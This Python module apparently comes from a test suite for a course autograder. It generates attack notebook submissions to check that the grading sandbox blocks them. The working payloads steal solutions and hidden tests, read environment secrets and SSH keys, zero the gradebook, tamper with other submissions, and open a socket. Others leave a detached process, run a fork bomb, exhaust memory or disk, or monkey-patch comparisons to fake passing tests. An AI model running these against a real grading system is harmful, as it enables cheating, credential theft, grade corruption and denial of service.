"""Attacks on the machine that grades: each is a lesson 01 submission built by code.

Every attack prints ``PWNED:<name>:<what>`` when it gets what it wanted, so the test can read
the evidence in the autograded notebook. With the sandbox none of them may print it; without
it (the control run) those marked ``control`` do, which proves that the sandbox is what
stops them. ``limit`` attacks are bounded by the sandbox's limits and are never run without
it (they would harm the machine).
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from coursegrader.course.paths import NOTEBOOKS_DIR, lesson_notebook

LESSON = "01-python-classes"
MARK = "PWNED"

# Finds the course and the grading folder the way a student would: from the student
# package's location, the environment and the current folder.
_FIND = '''
import json, os, pathlib, sys
def _course_roots():
    roots = []
    try:
        import torchcourse
        roots.append(pathlib.Path(torchcourse.__file__).resolve().parents[2])
    except Exception:
        pass
    for var in ("JUPYTER_CONFIG_PATH", "PYTHONPATH"):
        for part in os.environ.get(var, "").split(os.pathsep):
            if part:
                roots.append(pathlib.Path(part).resolve().parent)
    return [r for r in dict.fromkeys(roots) if (r / "solutions").is_dir()]
def _grading_dirs():
    dirs = [pathlib.Path(os.environ[v]) for v in ("COURSE_GRADING_DIR",) if v in os.environ]
    here = pathlib.Path.cwd().resolve()
    dirs += [p for p in here.parents if (p / "submitted").is_dir()]
    dirs += [r / "grading" for r in _course_roots()]
    return [d for d in dict.fromkeys(dirs) if d.is_dir()]
def _pwned(name, what):
    print("''' + MARK + ''':" + name + ":" + str(what)[:200])
'''


@dataclass
class Attack:
    name: str
    max_score: float  # what the honest work in the submission deserves at most
    reason: str | None  # what the instructor must read in the summary (lower case)
    status: str = "graded"
    control: bool = False  # succeeds without the sandbox (and is safe to run there)
    limit: bool = False  # bounded by a limit: only ever run inside the sandbox
    evidence: list[str] = field(default_factory=list)


def _read(path):
    return nbformat.read(path, as_version=4)


def _copy(nb):
    return nbformat.from_dict(json.loads(json.dumps(nb)))


def _cell(nb, grade_id):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def _insert_after(nb, grade_id, code):
    index = nb.cells.index(_cell(nb, grade_id)) + 1
    nb.cells.insert(index, nbformat.v4.new_code_cell(code))
    return nb


def _append(nb, code):
    nb.cells.append(nbformat.v4.new_code_cell(code))
    return nb


def build(dest: Path, *, port: int, token: str, fake_home: Path) -> dict[str, Attack]:
    """Write one submission folder per attack under ``dest``; return {name: Attack}."""
    solution = _read(lesson_notebook(LESSON))
    blank = _read(lesson_notebook(LESSON, NOTEBOOKS_DIR))
    total = float(sum(c.metadata["nbgrader"].get("points", 0) for c in solution.cells
                      if c.metadata.get("nbgrader", {}).get("grade")))
    attacks: dict[str, Attack] = {}

    def write(attack: Attack, nb):
        folder = dest / attack.name / LESSON
        folder.mkdir(parents=True, exist_ok=True)
        nbformat.write(nb, folder / f"{LESSON}.ipynb")
        (folder / "timestamp.txt").write_text("2026-01-15 10:00:00.000000 UTC\n")
        attacks[attack.name] = attack

    # --- reading what a student must not read
    # every answer cell runs the instructor's answer to it, read at grading time
    steal = _FIND + """
for root in _course_roots():
    source = json.loads((root / "solutions/01-python-classes/01-python-classes.ipynb").read_text())
    for cell in source["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == GRADE_ID:
            exec("".join(cell["source"]), globals())
            _pwned("steal-solutions", GRADE_ID)
    break
"""
    nb = _copy(blank)
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("solution") and cell.cell_type == "code":
            cell.source = steal.replace("GRADE_ID", repr(meta["grade_id"]))
    write(Attack("steal-solutions", 0, None, control=True), nb)

    hidden = _FIND + '''
import sqlite3
for grading in _grading_dirs():
    db = sqlite3.connect(grading / "gradebook.db")
    rows = db.execute("select source from source_cell").fetchall()
    hidden = [r[0] for r in rows if "BEGIN HIDDEN" in (r[0] or "")]
    _pwned("read-hidden-tests", f"{len(hidden)} hidden test cells")
    break
'''
    write(Attack("read-hidden-tests", total, "uses sqlite3", control=True),
          _insert_after(_copy(solution), "ex1-running-mean-test", hidden))

    secrets = _FIND + f'''
for name in ("COURSE_DB_URL", "JUPYTERHUB_API_TOKEN", "COURSE_GRADING_DIR"):
    if name in os.environ:
        _pwned("secrets", name + "=" + os.environ[name])
for home in {{os.path.expanduser("~"), {str(fake_home)!r}}}:
    key = pathlib.Path(home) / ".ssh" / "id_rsa"
    if key.exists():
        _pwned("secrets", key.read_text()[:40])
'''
    write(Attack("read-secrets", total, None, control=True),
          _insert_after(_copy(solution), "ex2-clip-test", secrets))

    # --- changing what a student must not change
    gradebook = _FIND + '''
import sqlite3
for grading in _grading_dirs():
    db = sqlite3.connect(grading / "gradebook.db")
    changed = db.execute("update grade set auto_score = 0, manual_score = 0").rowcount
    db.execute("insert or ignore into student (id) values ('ghost')")
    db.commit()
    _pwned("write-gradebook", f"{changed} grades set to 0")
'''
    write(Attack("write-gradebook", total, "uses sqlite3", control=True),
          _insert_after(_copy(solution), "ex3-affine-test", gradebook))

    tamper = _FIND + '''
for grading in _grading_dirs():
    target = grading / "submitted" / "perfect" / "01-python-classes" / "01-python-classes.ipynb"
    if target.exists():
        target.write_text("{}")
        _pwned("tamper-others", "perfect")
'''
    write(Attack("tamper-others", total, None, control=True),
          _insert_after(_copy(solution), "ex1-running-mean-test", tamper))

    course = _FIND + f'''
for root in _course_roots():
    for folder in ("solutions", "grader"):
        try:
            (root / folder / "{MARK}-{token}.txt").write_text("written by a submission")
            _pwned("write-course", folder)
        except OSError:
            pass
'''
    write(Attack("write-course", total, None, control=True),
          _insert_after(_copy(solution), "ex2-clip-test", course))

    # --- reaching out, and staying behind
    network = f'''
import socket
for host in ("127.0.0.1", "localhost"):
    try:
        with socket.create_connection((host, {port}), timeout=3) as conn:
            conn.sendall(b"{MARK} from a submission")
            print("{MARK}:network:" + host)
            break
    except OSError as err:
        print("no connection:", err)
'''
    write(Attack("network", total, "uses socket", control=True),
          _insert_after(_copy(solution), "ex1-running-mean-test", network))

    linger = f'''
import subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(300)", "linger-{token}"],
                 start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
'''
    write(Attack("process-left-behind", total, "uses subprocess", control=True),
          _insert_after(_copy(solution), "ex1-running-mean-test", linger))

    # --- runaway resources: bounded by the sandbox, and the reason is reported
    hog = "blocks = []\nwhile True:\n    blocks.append(bytearray(64 * 2**20))\n"
    write(Attack("memory-hog", total, "memory limit", limit=True), _append(_copy(solution), hog))
    # a classic fork bomb, in a process of its own (forks of the kernel itself are slow)
    bomb = (
        "import subprocess, sys\n"
        "bomb = 'import os, time\\nwhile True:\\n    try:\\n        os.fork()\\n'"
        " + '    except OSError:\\n        time.sleep(0.05)\\n'\n"
        "subprocess.Popen([sys.executable, '-c', bomb])\n"
        "import time\n"
        "time.sleep(3)\n"
    )
    write(Attack("fork-bomb", total, "process limit", limit=True), _append(_copy(solution), bomb))
    filler = (
        "chunk = b'x' * 2**24\n"
        "with open('filler.bin', 'wb') as out:\n"
        "    while True:\n"
        "        out.write(chunk)\n"
        "        out.flush()\n"
    )
    write(Attack("disk-filler", total, "disk limit", limit=True), _append(_copy(solution), filler))

    # --- tampering with the tests in the kernel, in its dynamic forms (integrity scan)
    nb = _copy(blank)
    _cell(nb, "quiz-answers").source = (
        'S = type("S", (str,), {"__eq__": lambda s, o: True, "__hash__": lambda s: 0})\n'
        'q1 = q2 = S("a")\n')
    write(Attack("quiz-type-eq", 0, "through type(...)", "review"), nb)
    nb = _copy(blank)
    _cell(nb, "ex1-running-mean").source = (
        "import numpy as N\nN.isclose = lambda *a, **k: True\n"
        "class RunningMean:\n    def update(self, value, n=1): pass\n"
        "    def mean(self): return 0.0\n")
    write(Attack("alias-patch", 0, "patches n.isclose", "review"), nb)
    nb = _copy(blank)
    _cell(nb, "ex1-running-mean").source = (
        "import math\nvars(math)['isclose'] = lambda *a, **k: True\n"
        "math.__dict__.update(fabs=lambda x: 0.0)\n")
    write(Attack("namespace-patch", 0, "vars(math)", "review"), nb)
    return attacks
